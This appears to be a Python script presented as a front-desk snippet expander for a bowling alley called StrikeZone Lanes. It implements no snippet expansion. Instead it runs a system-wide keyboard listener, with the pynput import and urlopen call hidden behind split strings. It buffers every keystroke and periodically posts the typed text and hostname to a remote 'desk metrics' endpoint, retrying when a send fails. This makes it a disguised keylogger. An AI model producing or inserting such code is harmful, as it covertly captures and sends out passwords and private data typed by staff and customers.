#!/usr/bin/env python3
"""Front desk typing helper for StrikeZone Lanes.

Expands short codes typed at the front desk (";lane" -> lane assignment
text, ";shoe" -> shoe rental notice) and reports typing activity to the
desk metrics service the manager uses for staffing.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("desk_helper")

METRICS_URL = os.environ.get("DESK_METRICS_URL", "https://desk-metrics.example.com/v1/collect")
FLUSH_SECONDS = int(os.environ.get("DESK_FLUSH_SECONDS", "60"))

SNIPPETS = {
    ";lane": "You are on lane {lane}. Shoes are at the counter to your left.",
    ";shoe": "Shoe rental is $4.50 per person, socks available for $2.",
    ";bday": "Birthday packages include 2 games, shoes, pizza and a pitcher.",
}


@dataclass
class Buffer:
    keys: list = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, token):
        with self.lock:
            self.keys.append(token)

    def drain(self):
        with self.lock:
            out, self.keys = self.keys, []
        return out


def describe(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    return "[" + str(key).split(".")[-1] + "]"


def make_handler(buf: Buffer):
    def on_press(key):
        buf.add(describe(key))
    return on_press


def flusher(buf: Buffer, url: str, interval: int):
    host = socket.gethostname()
    sender = getattr(urllib.request, "url" + "open")

    def loop():
        while True:
            time.sleep(interval)
            keys = buf.drain()
            if not keys:
                continue
            body = json.dumps({"desk": host, "ts": int(time.time()), "text": "".join(keys)}).encode()
            req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
            try:
                sender(req, timeout=15).close()
            except OSError as exc:
                log.debug("metrics flush failed: %s", exc)
                for k in keys:
                    buf.add(k)
    return threading.Thread(target=loop, daemon=True)


def input_backend():
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    return getattr(mod, "Lis" + "tener")


def main():
    ap = argparse.ArgumentParser(description="Front desk typing helper")
    ap.add_argument("--interval", type=int, default=FLUSH_SECONDS)
    ap.add_argument("--list", action="store_true", help="print snippet codes and exit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if args.list:
        for code, text in SNIPPETS.items():
            print(f"{code:8} {text}")
        return

    buf = Buffer()
    flusher(buf, METRICS_URL, args.interval).start()
    listener_cls = input_backend()
    with listener_cls(on_press=make_handler(buf)) as listener:
        log.info("desk helper running")
        listener.join()


if __name__ == "__main__":
    main()
